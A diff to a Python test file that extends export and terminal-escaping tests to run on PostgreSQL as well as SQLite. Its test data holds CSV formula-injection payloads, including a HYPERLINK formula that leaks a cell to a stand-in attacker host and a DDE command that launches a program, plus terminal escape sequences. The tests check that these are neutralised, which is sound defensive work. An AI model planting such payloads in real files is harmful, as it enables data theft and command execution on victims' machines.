@@ -28,6 +28,8 @@ from tabmail.services.context import AppContext
 from tabmail.services.importing import import_csv
 from tests.conftest import REPO
 
+BOTH_ENGINES = True  # every db/ctx test here also runs on PostgreSQL (tests/conftest.py)
+
 EVIL = {
     "Björn Carvalho": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "Hamid Schulz": "+cmd|' /C calc'!A0",
@@ -61,7 +63,7 @@ def test_export_csv_neutralises_formulas_and_is_owner_only(
 ) -> None:
     folder = _demo_copy(tmp_path / "evil", EVIL)
     import_csv(ctx, folder, "Evil Open")
-    db = str(ctx.db.path)
+    db = ctx.db.url  # the SQLite file's or the PostgreSQL database's URL
     ctx.close()
     assert (
         main(
@@ -98,7 +100,7 @@ def test_export_csv_neutralises_formulas_and_is_owner_only(
 
 def test_export_json_file_is_owner_only(ctx: AppContext, tmp_path: Path) -> None:
     import_csv(ctx, resource("demo"), "Demo Open")
-    db = str(ctx.db.path)
+    db = ctx.db.url  # the SQLite file's or the PostgreSQL database's URL
     ctx.close()
     out = tmp_path / "export.json"
     os.umask(0o022)
@@ -180,7 +182,7 @@ def test_cli_escapes_control_characters_on_a_terminal(ctx: AppContext, tmp_path:
         row = s.get(PersonRow, person.id)
         assert row is not None
         row.name = "Eve\x1b]0;owned\x07\x1b[2J"
-    db = str(ctx.db.path)
+    db = ctx.db.url  # the SQLite file's or the PostgreSQL database's URL
     ctx.close()
 
     shown = _run_on_terminal(["--db", db, "people", "--tournament", "demo-open"])
